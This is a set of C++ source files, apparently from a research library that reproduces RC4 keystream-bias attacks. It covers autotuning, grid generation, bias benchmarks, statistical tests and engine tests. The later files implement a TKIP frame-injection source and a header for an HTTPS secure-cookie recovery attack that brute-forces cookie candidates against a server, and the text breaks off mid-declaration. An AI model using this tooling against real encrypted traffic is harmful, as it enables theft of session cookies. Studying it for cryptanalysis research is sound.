    result.candidate = candidate;
    const auto key = std::make_pair(candidate.kernel, candidate.width);
    auto it = verified.find(key);
    if (it == verified.end()) {
      const KernelDesc* kernel = FindKernel(candidate.kernel);
      auto instance = kernel != nullptr ? kernel->make(candidate.width) : nullptr;
      const bool exact =
          instance != nullptr && KernelMatchesScalar(*instance, options.seed);
      it = verified.emplace(key, exact).first;
    }
    result.bit_exact = it->second;
    result.ks_per_s = TimeCandidate(candidate, options);
    results.push_back(std::move(result));
  }
  return results;
}

std::optional<AutotuneChoice> PickBestChoice(std::span<const AutotuneResult> results) {
  const AutotuneResult* best = nullptr;
  for (const AutotuneResult& result : results) {
    if (!result.bit_exact) {
      continue;
    }
    if (best == nullptr || result.ks_per_s > best->ks_per_s) {
      best = &result;
    }
  }
  if (best == nullptr) {
    return std::nullopt;
  }
  AutotuneChoice choice;
  choice.kernel = best->candidate.kernel;
  choice.width = best->candidate.width;
  choice.batch_keys = best->candidate.batch_keys;
  choice.ks_per_s = best->ks_per_s;
  choice.host = AutotuneHostname();
  choice.cpu_features = CpuFeatureString();
  return choice;
}

IoStatus SaveAutotuneChoice(const std::string& path, const AutotuneChoice& choice) {
  std::array<char, 32> rate;
  std::snprintf(rate.data(), rate.size(), "%.6g", choice.ks_per_s);
  std::string out;
  out += "rc4b-autotune 1\n";
  out += "kernel " + choice.kernel + "\n";
  out += "width " + std::to_string(choice.width) + "\n";
  out += "batch_keys " + std::to_string(choice.batch_keys) + "\n";
  out += "ks_per_s " + std::string(rate.data()) + "\n";
  out += "host " + choice.host + "\n";
  out += "cpu_features " + choice.cpu_features + "\n";
  return WriteFileAtomic(path, out);
}

std::optional<AutotuneChoice> LoadAutotuneChoice(const std::string& path) {
  MmapFile map;
  if (!MmapFile::Open(path, &map).ok()) {
    return std::nullopt;
  }
  const auto bytes = map.bytes();
  std::istringstream in(
      std::string(reinterpret_cast<const char*>(bytes.data()), bytes.size()));
  std::string line;
  if (!std::getline(in, line) || line != "rc4b-autotune 1") {
    return std::nullopt;
  }
  AutotuneChoice choice;
  bool have_kernel = false;
  bool have_width = false;
  bool have_batch = false;
  while (std::getline(in, line)) {
    if (line.empty()) {
      continue;
    }
    const size_t space = line.find(' ');
    if (space == std::string::npos) {
      return std::nullopt;
    }
    const std::string_view key = std::string_view(line).substr(0, space);
    const std::string_view value = std::string_view(line).substr(space + 1);
    uint64_t number = 0;
    if (key == "kernel") {
      choice.kernel = std::string(value);
      have_kernel = true;
    } else if (key == "width") {
      if (!ParseU64(value, &number)) {
        return std::nullopt;
      }
      choice.width = static_cast<size_t>(number);
      have_width = true;
    } else if (key == "batch_keys") {
      if (!ParseU64(value, &number)) {
        return std::nullopt;
      }
      choice.batch_keys = static_cast<size_t>(number);
      have_batch = true;
    } else if (key == "ks_per_s") {
      choice.ks_per_s = std::strtod(std::string(value).c_str(), nullptr);
    } else if (key == "host") {
      choice.host = std::string(value);
    } else if (key == "cpu_features") {
      choice.cpu_features = std::string(value);
    } else {
      return std::nullopt;  // unknown field: refuse to guess
    }
  }
  if (!have_kernel || !have_width || !have_batch || choice.width == 0) {
    return std::nullopt;
  }
  return choice;
}

std::string AutotuneHostname() {
  std::array<char, 256> buffer{};
  if (::gethostname(buffer.data(), buffer.size() - 1) != 0) {
    return "unknown";
  }
  return buffer.data();
}

std::optional<AutotuneChoice> ValidCachedAutotuneChoice() {
  const char* path = std::getenv("RC4B_AUTOTUNE_CACHE");
  if (path == nullptr || path[0] == '\0') {
    return std::nullopt;
  }
  const auto reject = [](const char* why) {
    static std::atomic<bool> warned{false};
    if (!warned.exchange(true)) {
      std::fprintf(stderr,
                   "rc4b: ignoring $RC4B_AUTOTUNE_CACHE (%s); re-run "
                   "tools/autotune on this host\n",
                   why);
    }
    return std::nullopt;
  };
  const auto choice = LoadAutotuneChoice(path);
  if (!choice) {
    return reject("missing or malformed");
  }
  if (choice->host != AutotuneHostname()) {
    return reject("tuned on a different host");
  }
  const KernelDesc* kernel = FindKernel(choice->kernel);
  if (kernel == nullptr || !kernel->Available() ||
      !kernel->SupportsWidth(choice->width)) {
    return reject("kernel unavailable on this CPU/build");
  }
  return choice;
}

}  // namespace rc4b
