// Generates grid data for a manifest written by grid_plan (docs/store.md).
//
// Shard mode (the normal distributed path) runs one manifest shard with
// checkpointing — kill it at any point and rerun the same command line to
// resume from the last snapshot:
//
//   tools/grid_gen --manifest consec.manifest --shard 2
//
// Reference mode generates the manifest's full key range in this process and
// writes one grid file — byte-identical to merging the shards, which is what
// the CI round-trip job asserts:
//
//   tools/grid_gen --manifest consec.manifest --reference consec-ref.grid
#include <cstdio>
#include <string>

#include "src/common/flags.h"
#include "src/common/retry.h"
#include "src/store/shard_runner.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  FlagSet flags(
      "Generates one manifest shard (checkpointed, resumable) or a "
      "full-range reference grid (docs/store.md). Exit codes "
      "(docs/orchestrate.md): 0 ok; 75 retryable (transient I/O, lost "
      "lease) — rerun the same command; 1 fatal (corrupt input, bad "
      "provenance) — retrying cannot help.");
  flags.Define("manifest", "grid.manifest", "manifest written by grid_plan")
      .Define("shard", "0", "shard index to run")
      .Define("reference", "",
              "instead of a shard: generate the manifest's full key range "
              "in-process and write it to this path")
      .Define("workers", "0", "worker threads (0 = all cores)")
      .Define("interleave", "0",
              "RC4 streams per lockstep group (0 = auto, 1 = scalar; counts "
              "are bit-identical for any width)")
      .Define("checkpoint-keys", "0x10000",
              "shard mode: keys between checkpoint snapshots (0 = none)")
      .Define("stop-after-keys", "0",
              "shard mode test hook: exit (leaving a checkpoint) after this "
              "many newly generated keys (0 = run to completion)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const std::string manifest_path = flags.GetString("manifest");
  store::Manifest manifest;
  if (IoStatus status = store::ReadManifest(manifest_path, &manifest);
      !status.ok()) {
    std::fprintf(stderr, "grid_gen: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }

  const unsigned workers = static_cast<unsigned>(flags.GetUint("workers"));
  const size_t interleave = static_cast<size_t>(flags.GetUint("interleave"));

  const std::string reference = flags.GetString("reference");
  if (!reference.empty()) {
    const store::StoredGrid grid =
        store::GenerateStoredGrid(manifest.grid, workers, interleave);
    if (IoStatus status =
            store::WriteGridFile(reference, grid.meta, grid.cells);
        !status.ok()) {
      std::fprintf(stderr, "grid_gen: %s\n", status.message().c_str());
      return ExitCodeForStatus(status);
    }
    std::printf("wrote %s: full range [%llu, %llu)\n", reference.c_str(),
                static_cast<unsigned long long>(grid.meta.key_begin),
                static_cast<unsigned long long>(grid.meta.key_end));
    return 0;
  }

  store::ShardRunOptions options;
  options.workers = workers;
  options.interleave = interleave;
  options.checkpoint_keys = flags.GetUint("checkpoint-keys");
  options.stop_after_keys = flags.GetUint("stop-after-keys");
  const uint32_t shard = static_cast<uint32_t>(flags.GetUint("shard"));

  store::ShardRunResult result;
  if (IoStatus status = store::RunShard(manifest, manifest_path, shard,
                                        options, &result);
      !status.ok()) {
    std::fprintf(stderr, "grid_gen: %s\n", status.message().c_str());
    return ExitCodeForStatus(status);
  }
  std::printf(
      "shard %u: %s%s — %llu keys this run, %llu of %llu total\n", shard,
      result.finished ? "finished" : "stopped at checkpoint",
      result.resumed ? " (resumed)" : "",
      static_cast<unsigned long long>(result.keys_done),
      static_cast<unsigned long long>(result.keys_completed),
      static_cast<unsigned long long>(manifest.shards[shard].key_end -
                                      manifest.shards[shard].key_begin));
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
