// SHA-1 (FIPS 180-4) — substrate for the TLS record HMAC (RC4-SHA1 suite).
// SHA-1 is cryptographically broken for collision resistance, but it is what
// the TLS_RSA_WITH_RC4_128_SHA cipher suite in the paper uses for record MACs.
#ifndef SRC_CRYPTO_SHA1_H_
#define SRC_CRYPTO_SHA1_H_

#include <array>
#include <cstdint>
#include <span>

#include "src/common/bytes.h"

namespace rc4b {

class Sha1 {
 public:
  static constexpr size_t kDigestSize = 20;
  static constexpr size_t kBlockSize = 64;

  Sha1() { Reset(); }

  void Reset();
  void Update(std::span<const uint8_t> data);
  std::array<uint8_t, kDigestSize> Finish();

  // One-shot convenience.
  static std::array<uint8_t, kDigestSize> Digest(std::span<const uint8_t> data);

 private:
  void ProcessBlock(const uint8_t block[kBlockSize]);

  uint32_t h_[5];
  uint64_t total_bytes_ = 0;
  uint8_t buffer_[kBlockSize];
  size_t buffered_ = 0;
};

}  // namespace rc4b

#endif  // SRC_CRYPTO_SHA1_H_
