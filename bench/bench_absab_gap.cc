// Sect. 4.2 — empirical validation of Mantin's ABSAB bias as a function of
// the gap size, against the theoretical alpha(g) of formula (1). The paper
// confirmed the bias up to g >= 135 with 2^48 blocks and noted the formula
// slightly underestimates the empirical strength.
#include <cstdio>

#include "bench/harness.h"
#include "src/biases/dataset.h"
#include "src/biases/mantin.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "24",
                            .count_help = "RC4 keys (one long keystream each)",
                            .seed_default = "9",
                            .seed_help = "dataset seed"};
  FlagSet flags("ABSAB bias strength vs gap size (Sect. 4.2 / formula 1)");
  DefineScaleFlags(flags, scale)
      .Define("max-gap", "32", "largest gap measured (paper: 135)")
      .Define("bytes-per-key", "0x40000000", "keystream bytes per key (2^30)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  LongTermOptions options;
  options.keys = keys;
  options.bytes_per_key = flags.GetUint("bytes-per-key");
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;
  const uint64_t max_gap = flags.GetUint("max-gap");

  bench::PrintHeader(
      "bench_absab_gap",
      "Mantin ABSAB digraph-repetition bias vs gap (formula 1, Sect. 4.2)",
      "measured relative bias q(g) with Pr[match] = 2^-16 (1 + q); small gaps "
      "reach multi-sigma at default scale, the far tail needs paper scale");

  const auto counts = GenerateAbsabDataset(max_gap, options);

  std::printf("%-6s %14s %14s %14s %8s\n", "gap", "measured q", "theory q",
              "ratio", "z(uni)");
  for (uint64_t g = 0; g <= max_gap; ++g) {
    const double n = static_cast<double>(counts.samples[g]);
    const double rate = static_cast<double>(counts.matches[g]) / n;
    const double q = rate * 65536.0 - 1.0;
    const double theory = AbsabRelativeBias(g);
    const double z = (rate - 0x1.0p-16) / std::sqrt(0x1.0p-16 / n);
    std::printf("%-6llu %+14.6f %+14.6f %14.3f %+8.2f %s\n",
                static_cast<unsigned long long>(g), q, theory,
                theory != 0.0 ? q / theory : 0.0, z, bench::Stars(z));
  }
  std::printf("\n(expected: q > 0 decaying by e^-1 every 32 gap bytes; the "
              "paper reports measured q slightly above theory)\n");
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
