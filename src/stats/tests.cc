#include "src/stats/tests.h"

#include <algorithm>
#include <cassert>
#include <cmath>
#include <numeric>

#include "src/stats/special.h"

namespace rc4b {

namespace {

uint64_t Total(std::span<const uint64_t> counts) {
  return std::accumulate(counts.begin(), counts.end(), uint64_t{0});
}

double ExpectedProb(std::span<const double> expected, size_t i, size_t k) {
  return expected.empty() ? 1.0 / static_cast<double>(k) : expected[i];
}

}  // namespace

TestResult ChiSquaredGoodnessOfFit(std::span<const uint64_t> counts,
                                   std::span<const double> expected) {
  assert(expected.empty() || expected.size() == counts.size());
  const size_t k = counts.size();
  const double n = static_cast<double>(Total(counts));
  double statistic = 0.0;
  size_t used_cells = 0;
  for (size_t i = 0; i < k; ++i) {
    const double e = n * ExpectedProb(expected, i, k);
    if (e <= 0.0) {
      continue;  // structurally impossible cell contributes no df
    }
    const double diff = static_cast<double>(counts[i]) - e;
    statistic += diff * diff / e;
    ++used_cells;
  }
  const double df = static_cast<double>(used_cells) - 1.0;
  return TestResult{statistic, df > 0 ? ChiSquaredSurvival(statistic, df) : 1.0};
}

TestResult ChiSquaredIndependence(std::span<const uint64_t> table, size_t rows,
                                  size_t cols) {
  assert(table.size() == rows * cols);
  std::vector<double> row_sum(rows, 0.0);
  std::vector<double> col_sum(cols, 0.0);
  double n = 0.0;
  for (size_t r = 0; r < rows; ++r) {
    for (size_t c = 0; c < cols; ++c) {
      const double v = static_cast<double>(table[r * cols + c]);
      row_sum[r] += v;
      col_sum[c] += v;
      n += v;
    }
  }
  double statistic = 0.0;
  size_t effective_rows = 0;
  size_t effective_cols = 0;
  for (size_t r = 0; r < rows; ++r) {
    effective_rows += row_sum[r] > 0 ? 1 : 0;
  }
  for (size_t c = 0; c < cols; ++c) {
    effective_cols += col_sum[c] > 0 ? 1 : 0;
  }
  for (size_t r = 0; r < rows; ++r) {
    if (row_sum[r] == 0) {
      continue;
    }
    for (size_t c = 0; c < cols; ++c) {
      if (col_sum[c] == 0) {
        continue;
      }
      const double e = row_sum[r] * col_sum[c] / n;
      const double diff = static_cast<double>(table[r * cols + c]) - e;
      statistic += diff * diff / e;
    }
  }
  const double df =
      static_cast<double>(effective_rows - 1) * static_cast<double>(effective_cols - 1);
  return TestResult{statistic, df > 0 ? ChiSquaredSurvival(statistic, df) : 1.0};
}

MTestResult FuchsKenettMTest(std::span<const uint64_t> counts,
                             std::span<const double> expected) {
  assert(expected.empty() || expected.size() == counts.size());
  const size_t k = counts.size();
  const double n = static_cast<double>(Total(counts));
  MTestResult result;
  for (size_t i = 0; i < k; ++i) {
    const double p = ExpectedProb(expected, i, k);
    if (p <= 0.0 || p >= 1.0) {
      continue;
    }
    const double sd = std::sqrt(n * p * (1.0 - p));
    const double z = std::fabs(static_cast<double>(counts[i]) - n * p) / sd;
    if (z > result.statistic) {
      result.statistic = z;
      result.worst_cell = i;
    }
  }
  const double per_cell = TwoSidedNormalPValue(result.statistic);
  result.p_value = std::min(1.0, per_cell * static_cast<double>(k));
  return result;
}

TestResult ProportionTest(uint64_t successes, uint64_t trials, double p0) {
  assert(trials > 0 && p0 > 0.0 && p0 < 1.0);
  const double n = static_cast<double>(trials);
  const double z = (static_cast<double>(successes) - n * p0) /
                   std::sqrt(n * p0 * (1.0 - p0));
  return TestResult{z, TwoSidedNormalPValue(z)};
}

std::vector<double> HolmAdjust(std::span<const double> p_values) {
  const size_t m = p_values.size();
  std::vector<size_t> order(m);
  std::iota(order.begin(), order.end(), 0);
  std::sort(order.begin(), order.end(),
            [&](size_t a, size_t b) { return p_values[a] < p_values[b]; });
  std::vector<double> adjusted(m);
  double running_max = 0.0;
  for (size_t rank = 0; rank < m; ++rank) {
    const size_t i = order[rank];
    const double scaled = p_values[i] * static_cast<double>(m - rank);
    running_max = std::max(running_max, std::min(1.0, scaled));
    adjusted[i] = running_max;
  }
  return adjusted;
}

std::vector<size_t> HolmReject(std::span<const double> p_values, double alpha) {
  const auto adjusted = HolmAdjust(p_values);
  std::vector<size_t> rejected;
  for (size_t i = 0; i < adjusted.size(); ++i) {
    if (adjusted[i] <= alpha) {
      rejected.push_back(i);
    }
  }
  return rejected;
}

}  // namespace rc4b
