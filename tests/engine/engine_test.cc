#include "src/engine/keystream_engine.h"

#include <gtest/gtest.h>

#include "src/biases/bias_scan.h"
#include "src/biases/dataset.h"
#include "src/engine/accumulators.h"

namespace rc4b {
namespace {

// The engine's core guarantee: key k is key number k of one AES-CTR stream
// regardless of sharding, so merged counters are bit-identical for any
// worker count. These tests pin that with deterministic seeds.

EngineOptions Options(uint64_t keys, unsigned workers, uint64_t seed) {
  EngineOptions options;
  options.keys = keys;
  options.workers = workers;
  options.seed = seed;
  return options;
}

SingleByteGrid RunSingleByte(size_t positions, const EngineOptions& options) {
  SingleByteAccumulator accumulator(positions);
  RunKeystreamEngine(options, accumulator);
  return accumulator.TakeGrid();
}

DigraphGrid RunConsecutive(size_t positions, const EngineOptions& options) {
  ConsecutiveAccumulator accumulator(positions);
  RunKeystreamEngine(options, accumulator);
  return accumulator.TakeGrid();
}

void ExpectGridsEqual(const SingleByteGrid& a, const SingleByteGrid& b) {
  ASSERT_EQ(a.positions(), b.positions());
  ASSERT_EQ(a.keys(), b.keys());
  for (size_t pos = 0; pos < a.positions(); ++pos) {
    for (int v = 0; v < 256; ++v) {
      ASSERT_EQ(a.Count(pos, static_cast<uint8_t>(v)),
                b.Count(pos, static_cast<uint8_t>(v)))
          << "pos=" << pos << " v=" << v;
    }
  }
}

void ExpectGridsEqual(const DigraphGrid& a, const DigraphGrid& b) {
  ASSERT_EQ(a.positions(), b.positions());
  ASSERT_EQ(a.keys(), b.keys());
  for (size_t pos = 0; pos < a.positions(); ++pos) {
    const auto row_a = a.Row(pos);
    const auto row_b = b.Row(pos);
    for (size_t cell = 0; cell < row_a.size(); ++cell) {
      ASSERT_EQ(row_a[cell], row_b[cell]) << "pos=" << pos << " cell=" << cell;
    }
  }
}

TEST(KeystreamEngineTest, SingleByteShardingIsBitExact) {
  // 20001 keys do not divide evenly into 4 or 7 shards; counts must still
  // match the single-shard reference exactly.
  const auto reference = RunSingleByte(8, Options(20001, 1, 3));
  ExpectGridsEqual(reference, RunSingleByte(8, Options(20001, 4, 3)));
  ExpectGridsEqual(reference, RunSingleByte(8, Options(20001, 7, 3)));
}

TEST(KeystreamEngineTest, ConsecutiveShardingIsBitExact) {
  const auto reference = RunConsecutive(4, Options(6007, 1, 5));
  ExpectGridsEqual(reference, RunConsecutive(4, Options(6007, 3, 5)));
}

TEST(KeystreamEngineTest, PairShardingIsBitExact) {
  const std::vector<std::pair<uint32_t, uint32_t>> pairs = {{1, 2}, {3, 16}};
  PairAccumulator single(pairs);
  RunKeystreamEngine(Options(5000, 1, 7), single);
  PairAccumulator sharded(pairs);
  RunKeystreamEngine(Options(5000, 5, 7), sharded);
  ExpectGridsEqual(single.grid(), sharded.grid());
}

TEST(KeystreamEngineTest, BatchSizeDoesNotChangeCounts) {
  EngineOptions options = Options(4096, 2, 9);
  options.batch_keys = 1;
  const auto one = RunSingleByte(4, options);
  options.batch_keys = 64;
  const auto sixty_four = RunSingleByte(4, options);
  options.batch_keys = 333;
  const auto uneven = RunSingleByte(4, options);
  ExpectGridsEqual(one, sixty_four);
  ExpectGridsEqual(one, uneven);
}

TEST(KeystreamEngineTest, DropShiftsKeystreamPositions) {
  // With drop=2, engine position 0 is Z_3: its counts must equal position 2
  // of a no-drop run over the same keys.
  EngineOptions options = Options(4096, 2, 11);
  const auto plain = RunSingleByte(4, options);
  options.drop = 2;
  const auto dropped = RunSingleByte(2, options);
  for (int v = 0; v < 256; ++v) {
    ASSERT_EQ(dropped.Count(0, static_cast<uint8_t>(v)),
              plain.Count(2, static_cast<uint8_t>(v)));
    ASSERT_EQ(dropped.Count(1, static_cast<uint8_t>(v)),
              plain.Count(3, static_cast<uint8_t>(v)));
  }
}

TEST(KeystreamEngineTest, DatasetWrappersRideTheEngine) {
  // GenerateSingleByteDataset must be the engine verbatim: same seed, same
  // counts, independent of each side's worker count.
  DatasetOptions dataset;
  dataset.keys = 5000;
  dataset.workers = 3;
  dataset.seed = 13;
  const auto wrapped = GenerateSingleByteDataset(6, dataset);
  const auto direct = RunSingleByte(6, Options(5000, 1, 13));
  ExpectGridsEqual(wrapped, direct);
}

TEST(KeystreamEngineTest, EngineScansDetectKnownBiases) {
  // The one-shot engine-backed scans: Z2 (Mantin–Shamir) must be flagged
  // biased and (Z1, Z2) dependent; 2^17 keys give >20-sigma signals.
  const auto single = ScanSingleBytesWithEngine(4, Options(1 << 17, 0, 2));
  ASSERT_EQ(single.size(), 4u);
  EXPECT_TRUE(single[1].biased) << "Z2 p_adj=" << single[1].p_adjusted;
  EXPECT_FALSE(single[2].biased);

  const auto pairs = ScanConsecutiveDigraphsWithEngine(2, Options(1 << 17, 0, 2));
  ASSERT_EQ(pairs.size(), 2u);
  EXPECT_TRUE(pairs[0].dependent) << "(Z1,Z2) p_adj=" << pairs[0].p_adjusted;
}

TEST(LongTermEngineTest, StreamingShardingIsBitExact) {
  LongTermEngineOptions options;
  options.keys = 6;
  options.bytes_per_key = 1 << 14;
  options.drop = 1024;
  options.seed = 17;
  options.chunk_bytes = 1 << 12;

  options.workers = 1;
  LongTermDigraphAccumulator single;
  RunLongTermEngine(options, single);
  options.workers = 4;
  LongTermDigraphAccumulator sharded;
  RunLongTermEngine(options, sharded);
  ExpectGridsEqual(single.grid(), sharded.grid());

  options.workers = 1;
  AbsabAccumulator absab_single(6);
  RunLongTermEngine(options, absab_single);
  options.workers = 3;
  AbsabAccumulator absab_sharded(6);
  RunLongTermEngine(options, absab_sharded);
  EXPECT_EQ(absab_single.matches(), absab_sharded.matches());
  EXPECT_EQ(absab_single.samples(), absab_sharded.samples());

  options.workers = 1;
  AlignedPairAccumulator aligned_single(0, 2);
  RunLongTermEngine(options, aligned_single);
  options.workers = 4;
  AlignedPairAccumulator aligned_sharded(0, 2);
  RunLongTermEngine(options, aligned_sharded);
  EXPECT_EQ(aligned_single.counts(), aligned_sharded.counts());
}

TEST(LongTermEngineTest, ChunkSizeDoesNotChangeCounts) {
  LongTermEngineOptions options;
  options.keys = 4;
  // Not a multiple of any power-of-two chunk: exercises the tail window.
  options.bytes_per_key = (1 << 14) + 512;
  options.drop = 256;
  options.seed = 19;
  options.workers = 2;

  options.chunk_bytes = 1 << 14;
  LongTermDigraphAccumulator coarse;
  RunLongTermEngine(options, coarse);
  options.chunk_bytes = 256;
  LongTermDigraphAccumulator fine;
  RunLongTermEngine(options, fine);
  options.chunk_bytes = 3 * 256;  // does not divide bytes_per_key
  LongTermDigraphAccumulator uneven;
  RunLongTermEngine(options, uneven);
  ExpectGridsEqual(coarse.grid(), fine.grid());
  ExpectGridsEqual(coarse.grid(), uneven.grid());
  // Every whole 256-byte block must be consumed: 65 blocks per key.
  EXPECT_EQ(coarse.grid().keys(), 4u * (options.bytes_per_key / 256));
}

}  // namespace
}  // namespace rc4b
