#include "src/tkip/injection.h"

#include <cassert>

#include "src/common/alias.h"
#include "src/rc4/rc4.h"
#include "src/tkip/tsc_model.h"

namespace rc4b {

struct ModelVictimSource::Impl {
  Bytes plaintext;
  size_t first = 0;
  size_t last = 0;
  uint64_t tsc = 0;
  Xoshiro256 rng;
  // samplers[tsc1 * positions + (pos - first)]
  std::vector<AliasTable> samplers;

  Impl(const TkipTscModel& model, Bytes plain, uint64_t initial_tsc, uint64_t seed)
      : plaintext(std::move(plain)),
        first(model.first_position()),
        last(model.last_position()),
        tsc(initial_tsc),
        rng(seed) {
    const size_t positions = model.position_count();
    samplers.resize(256 * positions);
    std::vector<double> weights(256);
    for (int tsc1 = 0; tsc1 < 256; ++tsc1) {
      for (size_t pos = first; pos <= last; ++pos) {
        for (int v = 0; v < 256; ++v) {
          weights[v] =
              model.Probability(static_cast<uint8_t>(tsc1), pos,
                                static_cast<uint8_t>(v));
        }
        samplers[static_cast<size_t>(tsc1) * positions + (pos - first)].Build(
            weights);
      }
    }
  }
};

ModelVictimSource::ModelVictimSource(const TkipTscModel& model, Bytes plaintext,
                                     uint64_t initial_tsc, uint64_t seed)
    : impl_(std::make_unique<Impl>(model, std::move(plaintext), initial_tsc, seed)) {
  assert(impl_->plaintext.size() >= impl_->last);
}

ModelVictimSource::~ModelVictimSource() = default;

TkipFrame ModelVictimSource::NextFrame() {
  TkipFrame frame;
  frame.tsc = impl_->tsc++;
  frame.ciphertext.assign(impl_->last, 0);
  const uint8_t tsc1 = static_cast<uint8_t>(frame.tsc >> 8);
  const size_t positions = impl_->last - impl_->first + 1;
  const AliasTable* row =
      impl_->samplers.data() + static_cast<size_t>(tsc1) * positions;
  for (size_t pos = impl_->first; pos <= impl_->last; ++pos) {
    const uint8_t keystream =
        static_cast<uint8_t>(row[pos - impl_->first].Sample(impl_->rng));
    frame.ciphertext[pos - 1] =
        static_cast<uint8_t>(impl_->plaintext[pos - 1] ^ keystream);
  }
  return frame;
}

TkipCaptureStats::TkipCaptureStats(size_t first_position, size_t last_position)
    : first_position_(first_position), last_position_(last_position) {
  assert(first_position >= 1 && first_position <= last_position);
  counts_.assign(256 * position_count() * 256, 0);
}

bool TkipCaptureStats::AddFrame(const TkipFrame& frame) {
  // Positions up to last_position_ are read below; reject short frames
  // instead of reading out of bounds in Release builds.
  if (frame.ciphertext.size() < last_position_) {
    return false;
  }
  const uint8_t tsc1 = static_cast<uint8_t>(frame.tsc >> 8);
  uint64_t* base =
      counts_.data() + static_cast<size_t>(tsc1) * position_count() * 256;
  for (size_t pos = first_position_; pos <= last_position_; ++pos) {
    base[(pos - first_position_) * 256 + frame.ciphertext[pos - 1]] += 1;
  }
  ++frames_;
  return true;
}

void TkipCaptureStats::Merge(const TkipCaptureStats& other) {
  assert(first_position_ == other.first_position_ &&
         last_position_ == other.last_position_);
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += other.counts_[i];
  }
  frames_ += other.frames_;
}

TkipInjectionSource::TkipInjectionSource(TkipPeer peer, Bytes msdu, uint64_t initial_tsc)
    : peer_(std::move(peer)), msdu_(std::move(msdu)), tsc_(initial_tsc) {
  plaintext_ = msdu_;
  const Bytes trailer = TkipTrailer(peer_, msdu_);
  plaintext_.insert(plaintext_.end(), trailer.begin(), trailer.end());
}

TkipFrame TkipInjectionSource::NextFrame() {
  // Phase 1 only depends on the upper 32 TSC bits; recompute it once per
  // 65536 packets exactly as a real station would.
  const uint32_t iv32 = static_cast<uint32_t>(tsc_ >> 16);
  if (!phase1_valid_ || iv32 != phase1_iv32_) {
    phase1_ = TkipPhase1(peer_.tk, peer_.ta, iv32);
    phase1_iv32_ = iv32;
    phase1_valid_ = true;
  }
  const Rc4PacketKey key =
      TkipPhase2(phase1_, peer_.tk, static_cast<uint16_t>(tsc_));

  TkipFrame frame;
  frame.tsc = tsc_++;
  frame.ciphertext.resize(plaintext_.size());
  Rc4 rc4(key);
  rc4.Process(plaintext_, frame.ciphertext);
  return frame;
}

}  // namespace rc4b
