// The HTTPS secure-cookie attack (Sect. 6): collect ciphertext statistics
// over many encrypted requests, build double-byte likelihoods combining
// Fluhrer–McGrew and multi-gap ABSAB estimates (Sect. 4.2/4.3), generate a
// cookie candidate list with Algorithm 2 restricted to the cookie character
// set (Sect. 6.2), and brute-force the list against the server.
//
// The statistics-to-tables step is exposed to the unified recovery pipeline
// as the CapturedCookieLikelihoodSource adapter, and BruteForceCookie runs
// on the RecoveryEngine with the server oracle as its verification
// predicate (docs/recovery.md).
#ifndef SRC_TLS_COOKIE_ATTACK_H_
#define SRC_TLS_COOKIE_ATTACK_H_

#include <cstdint>
#include <functional>
#include <span>
#include <vector>

#include "src/core/candidates.h"

namespace rc4b {

// Describes what the attacker knows about the aligned requests.
struct CookieAttackLayout {
  size_t cookie_offset = 0;   // offset of the cookie value within the request
  size_t cookie_length = 16;
  size_t request_size = 492;  // plaintext bytes per request
  size_t max_gap = 128;       // largest ABSAB gap used (paper: 128)
};

// Streaming statistics over captured ciphertext requests. For each of the
// cookie_length + 1 adjacent byte pairs spanning m1 || cookie || mL it keeps
//   * Fluhrer–McGrew pair counts of the two ciphertext bytes, and
//   * an ABSAB score table over the unknown pair, already aggregated over
//     every usable (gap, direction) against the surrounding known plaintext:
//     observing ciphertext differential d against known pair (k1, k2) of gap
//     g adds AbsabLogOdds(g) at table cell d XOR (k1, k2) — an O(1) update
//     per (request, gap) instead of 2 * 129 full count tables.
class CookieCaptureStats {
 public:
  // `known_plaintext` is the full aligned request with the cookie bytes
  // ignored (they are excluded from the known-pair sets automatically). The
  // layout must satisfy 1 <= cookie_offset and cookie_offset + cookie_length
  // < request_size == |known_plaintext|; otherwise the object is disabled
  // and AddRequest rejects everything.
  CookieCaptureStats(const CookieAttackLayout& layout, Bytes known_plaintext);

  // Adds one captured request's ciphertext (request_size bytes, RC4 layer
  // only — the caller strips the TLS record header and any preceding MAC
  // bytes belong to the previous request's stride). Returns false — and
  // records nothing — if the ciphertext is shorter than request_size.
  bool AddRequest(std::span<const uint8_t> ciphertext);

  uint64_t requests() const { return requests_; }
  size_t pair_count() const { return layout_.cookie_length + 1; }

  const std::vector<uint64_t>& FmCounts(size_t pair_index) const {
    return fm_counts_[pair_index];
  }
  const std::vector<double>& AbsabScores(size_t pair_index) const {
    return absab_scores_[pair_index];
  }

  const CookieAttackLayout& layout() const { return layout_; }

 private:
  struct GapRef {
    size_t known_position;  // request offset of the known pair's first byte
    uint16_t known_pair;    // plaintext (k1 << 8) | k2
    double log_odds;        // AbsabLogOdds(gap)
  };

  CookieAttackLayout layout_;
  Bytes known_plaintext_;
  bool valid_ = false;
  uint64_t requests_ = 0;
  std::vector<std::vector<uint64_t>> fm_counts_;    // [pair][c1*256+c2]
  std::vector<std::vector<double>> absab_scores_;   // [pair][mu1*256+mu2]
  std::vector<std::vector<GapRef>> gap_refs_;       // [pair] -> usable gaps
};

// Builds Algorithm 2 transition tables: per pair, the sparse FM double-byte
// likelihood (formula 15) at the pair's keystream counter plus the
// accumulated ABSAB scores (formula 25). `keystream_alignment` is the
// 0-based keystream offset of the first cookie byte modulo 256 (so the m1
// byte ahead of it sits at 1-based PRGA position == keystream_alignment).
DoubleByteTables CookieTransitionTables(const CookieCaptureStats& stats,
                                        size_t keystream_alignment);

struct CookieBruteForceResult {
  bool success = false;
  uint64_t attempts = 0;     // candidates tested against the server
  Bytes cookie;              // recovered cookie when success
};

// Generates up to `max_candidates` cookies in decreasing likelihood and
// tests each with `try_cookie` (e.g. an HTTPS request to the real server;
// here a simulated check). m1/m_last are the known bytes around the cookie.
CookieBruteForceResult BruteForceCookie(
    const DoubleByteTables& transitions, uint8_t m1, uint8_t m_last,
    std::span<const uint8_t> alphabet, size_t max_candidates,
